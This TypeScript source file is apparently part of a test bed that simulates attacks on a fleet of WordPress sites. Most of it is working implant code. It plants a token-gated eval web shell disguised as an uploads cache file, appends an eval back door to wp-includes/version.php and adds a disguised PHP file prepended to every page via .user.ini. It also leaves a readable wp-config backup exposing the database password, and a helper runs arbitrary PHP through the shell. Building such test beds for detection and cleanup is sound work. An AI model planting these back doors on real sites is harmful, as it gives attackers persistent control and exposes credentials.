import { createHash, randomBytes } from 'node:crypto';
import { chown, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { isRoot, web } from '../processes/account.ts';
import type { FleetSite } from '../site.ts';
import { ask } from './attacker.ts';
import type { Door } from './door.ts';

export const shellPath = 'wp-content/uploads/2026/11/cache.php';
/** Runs on every page, also before WordPress says that it is closed. A site of the bed has it as a file of its own (layout.ts). */
export const corePath = 'wp-includes/version.php';
export const prependedPath = 'wp-content/languages/nl_NL.session.php';
export const iniPath = '.user.ini';
export const copyPath = 'wp-config.php.bak';

export interface Shell {
  /** Has the site run PHP and answers with what it printed; null where there is no shell. */
  run(code: string): Promise<string | null>;
}

/** A web shell, a back door in a core file, a file before every page, and a copy of wp-config for all to read. */
export async function leaveFiles(site: FleetSite): Promise<{ doors: Door[]; shell: Shell }> {
  const token = randomBytes(9).toString('hex');
  const sum = createHash('sha256').update(token).digest('hex');
  const asked = (parameter: string) => `hash('sha256', $_REQUEST['${parameter}'] ?? '') === '${sum}'`;
  await put(site, shellPath, `<?php if (${asked('k')}) { echo 'shell:', $_REQUEST['k']; @eval($_POST['c'] ?? ''); }\n`);
  const core = await readFile(join(site.docroot, corePath), 'utf8');
  await put(
    site,
    corePath,
    `${core}\nif (${asked('c')}) { echo 'core:', $_REQUEST['c']; @eval($_POST['x'] ?? ''); exit; }\n`,
  );
  await put(
    site,
    prependedPath,
    `<?php if (${asked('p')}) { echo 'before:', $_REQUEST['p']; @eval($_POST['x'] ?? ''); }\n`,
  );
  await put(site, iniPath, `auto_prepend_file = ${join(site.docroot, prependedPath)}\n`);
  await nextSecond();
  await put(site, copyPath, await readFile(site.configPath, 'utf8'));
  const says = async (path: string, words: string) => (await ask(site, path)).body.includes(words);
  return {
    doors: [
      door('a web shell among the uploads', shellPath, () => says(`/${shellPath}?k=${token}`, `shell:${token}`)),
      door('a back door in a core file', corePath, () => says(`/?c=${token}`, `core:${token}`)),
      door('a file before every page', iniPath, () => says(`/?p=${token}`, `before:${token}`)),
      door('a copy of wp-config', copyPath, () => says(`/${copyPath}`, 'DB_PASSWORD')),
    ],
    shell: {
      async run(code) {
        const { body } = await ask(site, `/${shellPath}`, { form: { k: token, c: code } });
        return body.startsWith(`shell:${token}`) ? body.slice(6 + token.length) : null;
      },
    },
  };
}

/** PHP looks for a .user.ini once a second at most (php_cgi_ini_activate_user_config: `request_time > entry->expires`), each of its processes for itself: until then it may go by there being none. */
async function nextSecond(): Promise<void> {
  const second = () => Math.floor(Date.now() / 1000);
  for (const written = second(); second() === written; ) await wait(20);
}

const door = (name: string, path: string, open: () => Promise<boolean>): Door => ({
  ...{ name, open },
  trace: new RegExp(path.replaceAll('.', '\\.')),
});

async function put(site: FleetSite, path: string, text: string): Promise<void> {
  const file = join(site.docroot, path);
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, text, { mode: 0o644 });
  if (isRoot) await chown(file, web.uid, web.gid);
}

/** What a person does about a changed core file: the official one over it. `core`: a folder of WordPress as its makers ship it. */
export async function restoreCore(site: FleetSite, core: string): Promise<void> {
  const file = join(site.docroot, corePath);
  await copyFile(join(core, corePath), file);
  if (isRoot) await chown(file, web.uid, web.gid);
}
